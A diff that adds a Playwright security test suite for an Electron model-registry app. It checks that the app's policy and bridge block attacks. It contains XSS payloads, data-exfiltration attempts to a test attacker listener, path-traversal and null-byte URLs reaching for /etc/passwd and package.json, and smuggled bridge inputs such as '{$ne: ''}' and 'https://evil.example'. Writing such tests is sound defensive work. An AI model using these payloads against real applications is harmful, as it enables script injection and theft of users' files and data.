@@ -1,0 +1,405 @@
+// Each test is an attack on the person behind the app, with script already running in its page where that is the worst case.
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { ElectronApplication, Page } from '@playwright/test';
+import type {} from '../../renderer/bridge.ts';
+import type { PipelineStep } from '../demo/mlflow/pipeline.ts';
+import { type Attacker, startAttacker } from './attacker.ts';
+import { test as base, type Computer, expect, signedIn } from './fixtures.ts';
+
+const asked: string[] = [];
+const noteRequest: PipelineStep = (exchange, next) => {
+  asked.push(exchange.path);
+  return next(exchange);
+};
+
+const test = base.extend<{ attacker: Attacker }>({
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures a function needs from this pattern
+  attacker: async ({}, use) => {
+    const attacker = await startAttacker();
+    await use(attacker);
+    // A listener that hears nothing at all would prove nothing.
+    await fetch(`${attacker.url}/of-the-test`);
+    expect(attacker.heard).toEqual(['GET /of-the-test HTTP/1.1']);
+    await attacker.close();
+  },
+});
+
+test.use({ hubOptions: { faultSteps: [noteRequest] } });
+test.beforeEach(() => {
+  asked.length = 0;
+});
+
+const refusedByPolicy = /content security policy/i;
+const logOf = (computer: Computer): string => readFileSync(join(computer.userData, 'logs/main.log'), 'utf8');
+const addressOf = (app: ElectronApplication): Promise<string | undefined> =>
+  app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.getURL());
+
+async function openModels(page: Page): Promise<void> {
+  await expect(page.getByRole('link', { name: 'card-fraud-xgb', exact: true })).toBeVisible();
+}
+
+/** Attack: markup from a server runs as script, or loads something. The policy of the page leaves no way, unless it is weakened. */
+test('the page comes with a strict policy', async ({ hub, computer }) => {
+  const { app } = await computer.launch(signedIn(hub));
+  const read = () =>
+    app.evaluate(async ({ net }) => {
+      const answer = await net.fetch('app://primehub-models/index.html');
+      return { policy: answer.headers.get('content-security-policy') ?? '', page: await answer.text() };
+    });
+  const [first, second] = [await read(), await read()];
+  const nonce = /'nonce-([^']{20,})'/.exec(first.policy)?.[1] ?? '';
+  expect(first.policy.split('; ')).toEqual([
+    "default-src 'none'",
+    "script-src 'self'",
+    `style-src 'self' 'nonce-${nonce}'`,
+    "img-src 'self'",
+    "font-src 'self'",
+    "connect-src 'none'",
+    "base-uri 'none'",
+    "form-action 'none'",
+    "frame-ancestors 'none'",
+  ]);
+  expect(first.policy).not.toMatch(/unsafe|\*|data:|blob:|https?:/);
+  expect(first.page).toContain(nonce);
+  // A nonce that can be guessed is none.
+  expect(second.policy).not.toContain(nonce);
+});
+
+/** Attack: script is injected in every way that markup allows, and through eval. */
+test('injected script does not run', async ({ hub, computer }) => {
+  computer.expectFaults(refusedByPolicy);
+  computer.expectFaults(/Failed to load resource/);
+  const { page } = await computer.launch(signedIn(hub));
+  await openModels(page);
+  const evaluated = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        const script = document.createElement('script');
+        script.textContent = 'window.attacked = "inline"';
+        const handler = document.createElement('div');
+        handler.innerHTML = `<img src="nowhere" onerror="window.attacked = 'handler'">
+          <svg onload="window.attacked = 'svg'"></svg>
+          <iframe srcdoc="<script>parent.attacked = 'frame'</script>"></iframe>
+          <a href="javascript:window.attacked = 'link'">link</a>`;
+        document.body.append(script, handler);
+        handler.querySelector('a')?.click();
+        // In a task of the page's own: what a test evaluates is exempt from the policy.
+        setTimeout(() => {
+          try {
+            // biome-ignore lint/security/noGlobalEval: this is the attack
+            resolve(`ran: ${window.eval('1 + 1')}`);
+          } catch (error) {
+            resolve((error as Error).name);
+          }
+        });
+      }),
+  );
+  expect(evaluated).toBe('EvalError');
+  await expect.poll(() => page.evaluate(() => document.querySelector('img')?.complete)).toBe(true);
+  expect(await page.evaluate(() => Reflect.get(window, 'attacked') ?? 'not attacked')).toBe('not attacked');
+});
+
+/** Attack: script in the page sends what it sees away, by every kind of request, to a stranger or to the person's own hub. */
+test('no request leaves the page', async ({ hub, computer, attacker }) => {
+  computer.expectFaults(refusedByPolicy);
+  const { page } = await computer.launch(signedIn(hub));
+  await openModels(page);
+  for (const target of [attacker.url, hub.url, hub.mlflow.main.url]) {
+    const refused = await page.evaluate(async (address) => {
+      const url = `${address}/stolen`;
+      const wanted = 12;
+      const refusals: string[] = [];
+      const all = new Promise<void>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          refusals.push(effectiveDirective);
+          if (refusals.length === wanted) resolve();
+        });
+      });
+      const add = (tag: string, attributes: Record<string, string>): void => {
+        const element = document.createElement(tag);
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+        document.body.append(element);
+      };
+      fetch(url).catch(() => undefined);
+      fetch(url, { method: 'POST', mode: 'no-cors', body: 'stolen', keepalive: true }).catch(() => undefined);
+      const request = new XMLHttpRequest();
+      request.open('POST', url);
+      request.send('stolen');
+      new WebSocket(url.replace('http', 'ws'));
+      new EventSource(url);
+      navigator.sendBeacon(url, 'stolen');
+      add('img', { src: `${url}.png` });
+      add('iframe', { src: url });
+      add('script', { src: `${url}.js` });
+      add('link', { rel: 'stylesheet', href: `${url}.css` });
+      add('video', { src: `${url}.mp4` });
+      add('object', { data: url });
+      await all;
+      return refusals.sort();
+    }, target);
+    expect(refused).toEqual([
+      ...Array(6).fill('connect-src'),
+      'frame-src',
+      'img-src',
+      'media-src',
+      'object-src',
+      'script-src-elem',
+      'style-src-elem',
+    ]);
+  }
+  expect(attacker.heard).toEqual([]);
+  expect(asked.filter((path) => path.includes('stolen'))).toEqual([]);
+  expect(hub.mlflow.main.requests.filter(({ path }) => path.includes('stolen'))).toEqual([]);
+});
+
+/** Attack: the policy is missing or got round, as in a window without it. The session refuses below it. */
+test('a window without the policy loads nothing either', async ({ hub, computer, attacker }) => {
+  const { app, page } = await computer.launch(signedIn(hub));
+  await openModels(page);
+  const loads = await app.evaluate(async ({ BrowserWindow }, url) => {
+    const window = new BrowserWindow({ show: false });
+    const results: string[] = [];
+    for (const address of [url, `${url}/page.html`]) {
+      results.push(
+        await window.loadURL(address).then(
+          () => 'loaded',
+          (error: { code: string }) => error.code,
+        ),
+      );
+    }
+    window.destroy();
+    return results;
+  }, attacker.url);
+  expect(loads).toEqual(['ERR_BLOCKED_BY_CLIENT', 'ERR_BLOCKED_BY_CLIENT']);
+  expect(attacker.heard).toEqual([]);
+});
+
+/** Attack: the window is moved to a foreign page, or a second one is opened, so that it stands beside the bridge. */
+test('the window stays where it is and opens no other', async ({ hub, computer, attacker }) => {
+  const running = await computer.launch(signedIn(hub));
+  const { app, page } = running;
+  await openModels(page);
+  const before = await addressOf(app);
+  const opened = await page.evaluate((url) => {
+    const opener = window.open(`${url}/opened`);
+    const link = document.createElement('a');
+    link.href = `${url}/blank`;
+    link.target = '_blank';
+    document.body.append(link);
+    link.click();
+    return opener === null;
+  }, attacker.url);
+  expect(opened).toBe(true);
+  await expect.poll(() => logOf(computer).match(/window refused/g)).toHaveLength(2);
+  for (const address of [`${attacker.url}/moved`, 'mailto:x@example.com']) {
+    await page
+      .evaluate((url) => {
+        location.href = url;
+      }, address)
+      .catch(() => undefined);
+    await expect.poll(() => logOf(computer)).toContain(`navigation refused {"url":"${address}`);
+  }
+  // Chromium lets no page go to a file, and says so in the console instead of asking main.
+  computer.expectFaults(/Not allowed to load local resource/);
+  await page.evaluate(() => {
+    location.href = 'file:///etc/hostname';
+  });
+  await openModels(page);
+  expect(await addressOf(app)).toBe(before);
+  expect(app.windows()).toHaveLength(1);
+  expect(await computer.openedLinks(running)).toEqual([]);
+  expect(attacker.heard).toEqual([]);
+});
+
+/** Attack: script in the page watches or follows the person through the rights of a web page. */
+test('every permission is denied', async ({ hub, computer }) => {
+  const { page } = await computer.launch(signedIn(hub));
+  await openModels(page);
+  const answers = await page.evaluate(async () => {
+    const named = [
+      'geolocation',
+      'notifications',
+      'camera',
+      'microphone',
+      'clipboard-read',
+      'midi',
+    ] as PermissionName[];
+    const states = await Promise.all(named.map(async (name) => (await navigator.permissions.query({ name })).state));
+    const refusal = (attempt: Promise<unknown>): Promise<string> =>
+      attempt.then(
+        () => 'granted',
+        (error: Error) => error.name,
+      );
+    return {
+      states: [...new Set(states)],
+      notification: await Notification.requestPermission(),
+      position: await new Promise((resolve) =>
+        navigator.geolocation.getCurrentPosition(
+          () => resolve('granted'),
+          ({ code }) => resolve(code),
+        ),
+      ),
+      clipboard: await refusal(navigator.clipboard.readText()),
+      camera: await refusal(navigator.mediaDevices.getUserMedia({ video: true })),
+    };
+  });
+  const permissionDenied = 1;
+  expect(answers).toMatchObject({
+    states: ['denied'],
+    notification: 'denied',
+    position: permissionDenied,
+    clipboard: 'NotAllowedError',
+  });
+  expect(answers.camera).toMatch(/^(NotAllowedError|NotFoundError)$/);
+});
+
+/** Attack: script in the page reaches Node or Electron, or puts a bridge of its own in the place of the app's. */
+test('the page has nothing but a frozen bridge', async ({ hub, computer }) => {
+  const { page } = await computer.launch(signedIn(hub));
+  await openModels(page);
+  const seen = await page.evaluate(() => {
+    const original = window.bridge;
+    const attempt = (change: () => void): void => {
+      try {
+        change();
+      } catch {
+        // Strict code is told; either way nothing may change.
+      }
+    };
+    attempt(() => Object.assign(window.bridge, { request: () => 'stolen' }));
+    attempt(() => Object.assign(window, { bridge: { request: () => 'stolen' } }));
+    attempt(() => Object.defineProperty(window, 'bridge', { value: null }));
+    attempt(() => void Reflect.deleteProperty(window, 'bridge'));
+    return {
+      keys: Object.keys(window.bridge).sort(),
+      isFrozen: Object.isFrozen(window.bridge),
+      isOriginal: window.bridge === original && window.bridge.request === original.request,
+      leaks: ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron', 'contextBridge'].filter(
+        (name) => name in window,
+      ),
+    };
+  });
+  expect(seen).toEqual({ keys: ['cancel', 'on', 'request'], isFrozen: true, isOriginal: true, leaks: [] });
+});
+
+/** Attack: script in the page asks the main process for what the contract does not offer, or smuggles something along. */
+test('a request that is not in the contract is refused', async ({ hub, computer }) => {
+  const { page } = await computer.launch(signedIn(hub));
+  await openModels(page);
+  const answers = await page.evaluate(async () => {
+    const ask = async (name: string, input: unknown): Promise<string> => {
+      try {
+        const answer = await window.bridge.request(
+          name as 'app.info',
+          input as Record<string, never>,
+          crypto.randomUUID(),
+        );
+        return answer.ok ? 'answered' : answer.error.code;
+      } catch (error) {
+        return (error as Error).message;
+      }
+    };
+    const { connections, open } = await window.bridge
+      .request('connections.list', {}, crypto.randomUUID())
+      .then((answer) => (answer.ok ? answer.value : { connections: [], open: null }));
+    return {
+      known: await ask('app.info', {}),
+      unknown: await ask('files.read', { path: '/etc/passwd' }),
+      inherited: await ask('toString', {}),
+      extraKey: await ask('app.info', { path: '/etc/passwd' }),
+      extraDepth: await ask('connections.open', { connectionId: connections[0]?.id, group: open?.group, token: 'x' }),
+      wrongType: await ask('models.get', { scope: open, name: { $ne: '' } }),
+      anAddress: await ask('links.open', {
+        scope: open,
+        target: { page: 'mlflow-models', url: 'https://evil.example' },
+      }),
+      strangeScope: await ask('models.get', { scope: { connectionId: '../../etc', group: null }, name: 'x' }),
+      foreignScope: await ask('models.get', { scope: { connectionId: crypto.randomUUID(), group: null }, name: 'x' }),
+      notAText: await ask('clipboard.write', { text: 42 }),
+    };
+  });
+  expect(answers).toEqual({
+    known: 'answered',
+    unknown: expect.stringContaining('No such request: files.read'),
+    inherited: expect.stringContaining('No such request: toString'),
+    extraKey: 'INVALID_INPUT',
+    extraDepth: 'INVALID_INPUT',
+    wrongType: 'INVALID_INPUT',
+    anAddress: 'INVALID_INPUT',
+    strangeScope: 'INVALID_INPUT',
+    foreignScope: 'CONNECTION_UNKNOWN',
+    notAText: 'INVALID_INPUT',
+  });
+});
+
+/** Attack: whoever may register a model writes markup into its name, description, tags and versions. */
+test('text from the registry stays text', async ({ hub, computer, attacker }) => {
+  const name = '<img src=x onerror=alert(1)>';
+  const description = `<script>window.attacked = 1</script> <iframe src="${attacker.url}"></iframe> [click me](javascript:alert(1)) ![](${attacker.url}/pixel.png) {{7*7}}`;
+  const { models } = hub.mlflow.main.registry;
+  models.create({ name, description, tags: [['<b>key</b>', '<style>*{display:none}</style>']] });
+  models.createVersion({ modelName: name, source: 's3://bucket/<svg onload=alert(1)>', description });
+  hub.cluster.setDeploymentMessage('uplift-holdout-w9e4s', description);
+
+  const { page } = await computer.launch(signedIn(hub));
+  const standsAsText = async (text: string): Promise<void> => {
+    await expect(page.getByText(text).first()).toBeVisible();
+    await expect(page.locator('main :is(script, iframe, style, [onerror], a[href^="javascript"], img)')).toHaveCount(0);
+  };
+  await page.getByRole('searchbox', { name: 'Search models' }).fill('onerror');
+  await page.getByRole('link', { name, exact: true }).click();
+  await expect(page.getByRole('heading', { name, exact: true })).toBeVisible();
+  await standsAsText(description);
+  await page.getByRole('link', { name: 'Version 1', exact: true }).click();
+  await expect(page.getByRole('heading', { name: 'Version 1', exact: true })).toBeVisible();
+  await standsAsText(description);
+  await expect(page.getByRole('link', { name: 'click me' })).toHaveCount(0);
+
+  await page.getByRole('navigation', { name: 'Pages' }).getByRole('link', { name: 'Deployments' }).click();
+  await page.getByRole('link', { name: 'uplift-holdout', exact: true }).click();
+  await standsAsText(description);
+  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+  expect(attacker.heard).toEqual([]);
+});
+
+/** Attack: an administrator of the group makes the app open something else than a web page; script in the page helps. */
+test('an MLflow address that is no web address is not opened', async ({ hub, computer }) => {
+  hub.cluster.setGroupAttribute('fraud-detection', 'mlflow-ui-url', 'file:///etc/passwd');
+  const running = await computer.launch(signedIn(hub));
+  const { page } = running;
+  await openModels(page);
+  await expect(page.getByRole('button', { name: 'MLflow UI' })).toHaveAttribute('aria-disabled', 'true');
+  const answer = await page.evaluate(async () => {
+    const list = await window.bridge.request('connections.list', {}, crypto.randomUUID());
+    if (!list.ok || list.value.open === null) return 'nothing open';
+    const input = { scope: list.value.open, target: { page: 'mlflow-models' } } as const;
+    const opened = await window.bridge.request('links.open', input, crypto.randomUUID());
+    return opened.ok ? 'opened' : opened.error.code;
+  });
+  expect(answer).toBe('LINK_REFUSED');
+  expect(await computer.openedLinks(running)).toEqual([]);
+});
+
+/** Attack: a crafted address of the app's own scheme reads files of the person. */
+test('the app scheme serves its own files and nothing else', async ({ hub, computer }) => {
+  const { app } = await computer.launch(signedIn(hub));
+  const statuses = await app.evaluate(async ({ net }) => {
+    const host = 'app://primehub-models';
+    const addresses = [
+      `${host}/`,
+      `${host}/../../package.json`,
+      `${host}/..%2f..%2fpackage.json`,
+      `${host}/%2e%2e/%2e%2e/package.json`,
+      `${host}/assets/..%5c..%5c..%5cpackage.json`,
+      `${host}//etc/passwd`,
+      `${host}/index.html%00.js`,
+      `${host}/INDEX.HTML`,
+      'app://elsewhere/index.html',
+    ];
+    const answers = await Promise.all(addresses.map((address) => net.fetch(address)));
+    const posted = await net.fetch(`${host}/index.html`, { method: 'POST', body: 'x' });
+    return [...answers, posted].map(({ status, headers }) => `${status} ${headers.get('x-content-type-options')}`);
+  });
+  expect(statuses).toEqual(['200 nosniff', ...Array(9).fill('404 nosniff')]);
+});
